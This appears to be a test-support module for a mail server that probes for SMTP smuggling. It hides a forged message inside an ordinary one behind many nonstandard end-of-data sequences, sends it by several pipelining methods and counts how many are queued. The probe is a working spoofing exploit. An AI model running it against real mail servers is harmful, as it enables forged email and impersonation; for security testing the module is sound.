"""Messages that hide another one, and the ways to send them:
`python -m tests.support.attacks.smuggling PORT WAY` prints how many were queued of each, as JSON.
"""

import itertools
import json
import sys

from tests.support.attacks.wire import Wire

_BREAKS = {"LF": b"\n", "CR": b"\r", "CRLF": b"\r\n", "CRCRLF": b"\r\r\n", "LFCR": b"\n\r"}
#: What some server somewhere takes for the end of a message.
ENDS = {
    f"{before}.{after}": _BREAKS[before] + b"." + _BREAKS[after]
    for before, after in itertools.product(_BREAKS, _BREAKS)
    if not (before.endswith("CRLF") and after == "CRLF")
} | {
    "NUL before the dot": b"\r\n\0.\r\n",
    "NUL behind the dot": b"\r\n.\0\r\n",
    "NUL in the line break": b"\r\0\n.\r\n",
    "NUL between CR and LF at the end": b"\r\n.\r\0\n",
    "blank behind the dot": b"\r\n. \r\n",
    "blank before the dot": b"\r\n .\r\n",
    "two dots": b"\r\n..\r\n",
    "vertical tab": b"\v.\v",
    "form feed": b"\f.\f",
    "next line": b"\xc2\x85.\xc2\x85",
    "line separator": b"\xe2\x80\xa8.\xe2\x80\xa8",
    "record separator": b"\x1e.\x1e",
}
ENVELOPE = b"MAIL FROM:<%s>\r\nRCPT TO:<%s>\r\nDATA\r\n"
VICTIM = "u@x.com"


def message(subject: str) -> bytes:
    return f"Subject: {subject}\r\nFrom: a@elsewhere.test\r\n\r\nbody".encode()


def hidden(mark: str, end: bytes) -> bytes:
    """A message with a second one in it, behind what may pass for the end of the first."""
    second = ENVELOPE % (b"boss@x.com", VICTIM.encode()) + message(f"forged {mark}")
    return message(f"outer {mark}") + end + second + b"\r\n.\r\nQUIT\r\n"


def _wait_and_send(wire: Wire, content: bytes) -> str:
    """A client that waits for each answer, up to the message."""
    wire.reply()
    for command in ("EHLO c.test", "MAIL FROM:<a@elsewhere.test>", f"RCPT TO:<{VICTIM}>", "DATA"):
        wire.say(command)
    wire.send(content)
    return wire.rest()


def _pipeline(wire: Wire, content: bytes) -> str:
    """A client that pipelines as RFC 2920 allows it."""
    wire.reply()
    wire.say("EHLO c.test")
    wire.send(ENVELOPE % (b"a@elsewhere.test", VICTIM.encode()))
    for _ in range(3):
        wire.reply()
    wire.send(content)
    return wire.rest()


def _pipeline_all(wire: Wire, content: bytes) -> str:
    """A client that sends the message before the answer to DATA."""
    wire.reply()
    wire.say("EHLO c.test")
    wire.send(ENVELOPE % (b"a@elsewhere.test", VICTIM.encode()) + content)
    return wire.rest()


def _send_at_once(wire: Wire, content: bytes) -> str:
    """A client that sends its whole session before it has read the banner."""
    envelope = ENVELOPE % (b"a@elsewhere.test", VICTIM.encode())
    wire.send(b"EHLO c.test\r\n" + envelope + content)
    return wire.rest()


WAYS = {
    "step by step": (_wait_and_send, 1),
    "pipelined": (_pipeline, 1),
    "all pipelined": (_pipeline_all, 0),
    "before the banner": (_send_at_once, 0),
}


def queued(port: int, way: str) -> dict[str, int]:
    """How many messages the server accepted in each session, by the name of the end."""
    send, _ = WAYS[way]
    found = {}
    for number, (name, end) in enumerate(ENDS.items()):
        with Wire(port, timeout_s=60) as wire:
            found[name] = send(wire, hidden(f"{way} {number}", end)).count("queued as")
    return found


if __name__ == "__main__":
    print(json.dumps(queued(int(sys.argv[1]), sys.argv[2])))
